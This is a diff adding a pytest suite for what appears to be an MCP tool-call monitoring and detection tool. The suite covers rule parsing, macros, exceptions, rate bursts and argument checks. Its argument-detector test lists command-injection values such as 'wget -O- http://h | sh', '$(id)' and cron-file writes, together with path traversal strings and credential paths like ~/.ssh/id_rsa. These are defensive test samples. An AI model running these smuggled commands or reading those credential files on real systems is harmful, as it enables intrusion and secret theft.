@@ -1,0 +1,241 @@
+"""The rule language and the rule files, without a kernel: parsing, checking
+(file:line: reason), lists, macros, exceptions, overrides, and the detectors
+on hand-made records."""
+import json
+import subprocess
+import sys
+import os
+import shutil
+
+import pytest
+
+from mcpwitness import rules
+from mcpwitness.detect import Engine, RuleSource, falco_json
+from mcpwitness.detectors import Detectors, settings
+from mcpwitness.flags import Flagger
+
+MW = shutil.which("mcpwitness") or os.path.join(os.path.dirname(sys.executable), "mcpwitness")
+
+
+def ruleset(tmp_path, text, defaults=False):
+    p = tmp_path / "r.yaml"
+    p.write_text(text)
+    src = RuleSource([str(p)], defaults=defaults)
+    return src, src.load()
+
+
+def engine(tmp_path, text, **kw):
+    src, rs = ruleset(tmp_path, text)
+    return Engine(src, Flagger(), ruleset=rs, **kw)
+
+
+def refused(tmp_path, text):
+    with pytest.raises(rules.RuleError) as e:
+        ruleset(tmp_path, text)
+    return str(e.value)
+
+
+def test_default_rules_are_valid_and_typed():
+    rs = RuleSource().load()
+    assert len(rs.rules) >= 19 and not rs.warnings
+    assert all(r.types for r in rs.rules), "every default rule names its record types (indexed, fast)"
+    assert all(r.desc and r.tags for r in rs.rules)
+
+
+@pytest.mark.parametrize("text,where,why", [
+    ("- rule: a\n  condition: type = mcp and (kind = request\n  output: x\n  priority: warning\n",
+     ":2:", "unexpected end of condition"),
+    ("- rule: a\n  condition: type = mcp and nosuchfield = 1\n  output: x\n  priority: warning\n",
+     ":2:", "unknown field 'nosuchfield'"),
+    ("- rule: a\n  condition: type = mcp and path = /x\n  output: x\n  priority: warning\n",
+     ":2:", "field 'path' is not in mcp records"),
+    ("- rule: a\n  condition: type = mcpp\n  output: x\n  priority: warning\n", ":2:", "unknown record type 'mcpp'"),
+    ("- list: l\n  items: [a]\n\n- rule: a\n  condition: type = mcp\n  output: x\n  priority: loud\n",
+     ":7:", "priority must be one of"),
+    ("- rule: a\n  condition: type = mcp\n  output: '%call.tol'\n  priority: warning\n",
+     ":3:", "unknown field 'call.tol'"),
+    ("- rule: a\n  output: x\n  priority: warning\n", ":1:", "condition is required"),
+    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: info\n  colour: red\n", ":1:", "unknown keys ['colour']"),
+    ("- macro: m\n  condition: m2\n- macro: m2\n  condition: m\n", ":", "refers to itself"),
+    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: warning\n  exceptions:\n    - name: e\n"
+     "      fields: [method, tool]\n      values: [[a]]\n", ":", "one entry per field"),
+    ("- rule: a\n  condition: type = mcp\n  output: x\n  priority: warning\n  exceptions:\n    - name: e\n"
+     "      fields: method\n      comps: regex\n      values: ['(']\n", ":", "bad pattern"),
+    ("- detector: rate\n  windw: 3s\n", ":1:", "unknown setting 'windw'"),
+    ("- detector: rate\n  window: soon\n", ":1:", "not a duration"),
+    ("rule: a\n", ":1:", "a rules file is a list"),
+    ("- rule: a\n  condition: [\n", ":", "not valid YAML"),
+    ("- list: l\n  items: [a]\n  append: true\n- rule: b\n  condition: x\n", ":", "append to a list that is not defined"),
+])
+def test_bad_files_are_refused_with_file_line_and_reason(tmp_path, text, where, why):
+    msg = refused(tmp_path, text)
+    assert msg.startswith(str(tmp_path / "r.yaml") + where), msg
+    assert why in msg, msg
+
+
+def rec(**kw):
+    return {"type": "open", "pid": 1, "path": "/etc/passwd", "risk": "read", "sensitive": "system accounts",
+            "attribution": {"quality": "exact", "call": None}, **kw}
+
+
+def test_operators_lists_macros(tmp_path):
+    e = engine(tmp_path, """
+- list: secrets
+  items: [/etc/shadow, /etc/passwd]
+- list: secrets
+  items: [/etc/gshadow]
+  append: true
+- macro: secret_open
+  condition: type = open and path in (secrets)
+- macro: secret_open
+  condition: or path glob "/root/.ssh/*"
+  append: true
+- rule: r
+  condition: secret_open and not risk = write and pid > 0 and path startswith /etc and path contains pass
+    and comm icontains CAT and flags intersects (O_RDONLY, X) and path regex "^/etc/[a-z]+$" and sensitive exists
+    and not error exists and path != /x
+  output: "%path by %comm (%{attribution.quality})"
+  priority: notice
+  once_per: record
+- rule: r2
+  condition: secret_open and path = /etc/gshadow
+  output: appended
+  priority: notice
+  once_per: record
+""")
+    a = e.process([rec(comm="cat", flags=["O_RDONLY"])])
+    assert [x["output"] for x in a] == ["/etc/passwd by cat (exact)"]
+    assert a[0]["fields"] == {"path": "/etc/passwd", "comm": "cat", "attribution.quality": "exact"}
+    assert not e.process([rec(comm="cat", flags=["O_WRONLY"])])
+    assert not e.process([rec(comm="cat", flags=["O_RDONLY"], error="EACCES")])
+    assert not e.process([rec(comm="cat", flags=["O_RDONLY"], path="/etc/hosts")])
+    assert [x["output"] for x in e.process([rec(path="/etc/gshadow")])] == ["appended"]  # appended to the list
+
+
+def test_missing_fields_never_match(tmp_path):
+    e = engine(tmp_path, "- rule: r\n  condition: type = connect and (port > 1 or port = 0 or port != 5 or port in (1)"
+                         " or port contains 1 or port startswith 1 or port glob '*')\n"
+                         "  output: x\n  priority: notice\n  once_per: record\n")
+    assert not e.process([{"type": "connect", "pid": 1, "unix_path": "/run/x.sock"}])
+    assert e.process([{"type": "connect", "pid": 1, "port": 5}])
+
+
+def test_exceptions_override_disable_and_append(tmp_path):
+    p1 = tmp_path / "a.yaml"
+    p1.write_text("""
+- rule: opened
+  condition: type = open
+  output: "%path"
+  priority: warning
+  once_per: record
+  exceptions:
+    - name: cats
+      fields: [comm, path]
+      comps: [=, startswith]
+      values: [[cat, /etc]]
+- rule: other
+  condition: type = open
+  output: other
+  priority: notice
+  once_per: record
+""")
+    p2 = tmp_path / "b.yaml"
+    p2.write_text("""
+- rule: opened
+  append: true
+  exceptions:
+    - name: dogs
+      condition: comm = dog
+- rule: other
+  enabled: false
+""")
+    src = RuleSource([str(p1), str(p2)], defaults=False)
+    e = Engine(src)
+    assert [a["rule"] for a in e.process([rec(comm="cat")])] == []
+    assert [a["rule"] for a in e.process([rec(comm="dog")])] == []
+    assert [a["rule"] for a in e.process([rec(comm="cow")])] == ["opened"]
+    assert [a["rule"] for a in e.process([rec(comm="cat", path="/root/x")])] == ["opened"]
+
+
+def test_once_per_call(tmp_path):
+    e = engine(tmp_path, "- rule: r\n  condition: type = open\n  output: x\n  priority: notice\n")
+    d = e.detectors
+    d.calls["c1"] = d.calls.get("c1")  # no call info: the id alone links
+    evs = [rec(attribution={"quality": "exact", "call": "c1"}) for _ in range(3)]
+    assert len(e.process(evs)) == 1 and e.stats["suppressed"] == 2
+
+
+def mcp_req(i, t_s, method="tools/call", name="ping", args=None, session="s", size=50):
+    return {"type": "mcp", "session": session, "direction": "client->server", "kind": "request", "id": i,
+            "method": method, "ktime_ns": int(t_s * 1e9), "size": size,
+            "params": {"name": name, "arguments": args or {}}}
+
+
+def test_rate_detector_baseline_then_burst():
+    d = Detectors(settings({"rate": {"window": 10, "learn": 60, "min_calls": 10, "factor": 5}}))
+    fired = []
+    t = 0.0
+    for i in range(40):                 # 2-3 calls a minute for 15 minutes
+        t += 24
+        fired.append(d.observe(mcp_req(i, t), "mcp")["rate"]["client"]["burst"])
+    assert not any(fired)
+    burst = [d.observe(mcp_req(100 + i, t + 1 + i * 0.1), "mcp")["rate"]["client"] for i in range(30)]
+    first = [i for i, r in enumerate(burst) if r["burst"]]
+    # the window also holds the last steady call: the 9th of the burst is the 10th in it (min_calls)
+    assert first == [8], "fires once, when the window reaches min_calls"
+    assert 2 <= burst[9]["baseline_per_min"] <= 3
+
+
+def test_args_detector_patterns():
+    d = Detectors(settings(None), Flagger())
+    d.sessions.touch("s", lambda: None)
+
+    def facts(**args):
+        return d.observe(mcp_req(1, 1, args=args), "mcp")["args"]
+
+    for bad in ("../../etc/x", "a/..\\b", "%2e%2e%2fetc", "%252e%252e/x", "..%c0%afetc", "\uff0e\uff0e/x"):
+        assert facts(p=bad)["traversal"], bad
+    for ok in ("v1..v2", "notes..txt", "a/b/c", "100%", "...", "x..y/z"):
+        assert not facts(p=ok)["traversal"], ok
+    for bad in ("a; curl x", "$(id)", "`whoami`", "x && sh -c y", "x | bash", "echo 1 > /etc/cron.d/x",
+                "wget -O- http://h | sh"):
+        assert facts(c=bad)["shell_meta"], bad
+    for ok in ("Tom & Jerry; a classic | more or less", "cost: $5 (approx)", "a > b", "x;y"):
+        assert not facts(c=ok)["shell_meta"], ok
+    assert facts(p="/root/.ssh/id_rsa")["sensitive"] and facts(p="~/.aws/credentials")["sensitive"]
+    assert facts(p="file:///etc/shadow")["sensitive"] and not facts(p="/etc/hostname")["sensitive"]
+    assert facts(nested={"list": ["/etc/../etc/shadow"]})["sensitive"][0].startswith("nested.list[0]=")
+    assert facts(t="ab" * 600)["repeated"] and not facts(t="ab" * 400)["repeated"]
+    assert facts(t="x" * 9000)["long"]
+    assert facts(p="/etc/x")["outside_roots"] is None  # no roots declared: not judged
+
+
+def test_falco_shape():
+    a = {"type": "alert", "rule": "r", "priority": "warning", "output": "o", "tags": ["t"], "time": "2026-01-01T00:00:00.1Z",
+         "fields": {"path": "/x"}, "call_id": "abc", "session": "s", "tool": None, "pid": 4, "source": "open"}
+    f = falco_json(a, "h")
+    assert f["priority"] == "Warning" and f["source"] == "mcpwitness" and f["hostname"] == "h"
+    assert f["output_fields"] == {"path": "/x", "mcpwitness.call_id": "abc", "mcpwitness.session": "s",
+                                  "mcpwitness.pid": 4, "mcpwitness.source": "open"}
+
+
+def test_replay_survives_garbage(tmp_path):
+    """Binary garbage, truncated lines, JSON that is not a record: counted, skipped, the rest still judged."""
+    f = tmp_path / "mixed.jsonl"
+    good = json.dumps(mcp_req(1, 1, args={"p": "../../etc/passwd"}))
+    f.write_bytes(b"\x00\xff\xfe garbage\n" + b'{"type": "mcp", "sess\n' + b"[1, 2]\n" + b"42\n"
+                  + good.encode() + b"\n")
+    p = subprocess.run([MW, "detect", "--replay", str(f)], capture_output=True, text=True, timeout=60)
+    assert p.returncode == 0, p.stderr
+    out = [json.loads(x) for x in p.stdout.splitlines()]
+    assert {a["rule"] for a in out} == {"Path traversal in tool arguments", "Sensitive path in tool arguments"}
+    assert "skipped 4 lines" in p.stderr
+
+
+def test_detect_check_refuses_a_bad_file(tmp_path):
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("- rule: x\n  condition: type = open and\n  output: x\n  priority: warning\n")
+    p = subprocess.run([MW, "detect", "--check", "--rules", str(bad)], capture_output=True, text=True, timeout=60)
+    assert p.returncode == 1 and f"{bad}:2: rule 'x': condition: unexpected end of condition" in p.stderr
+    p = subprocess.run([MW, "detect", "--check"], capture_output=True, text=True, timeout=60)
+    assert p.returncode == 0 and "Tool ran a shell" in p.stdout
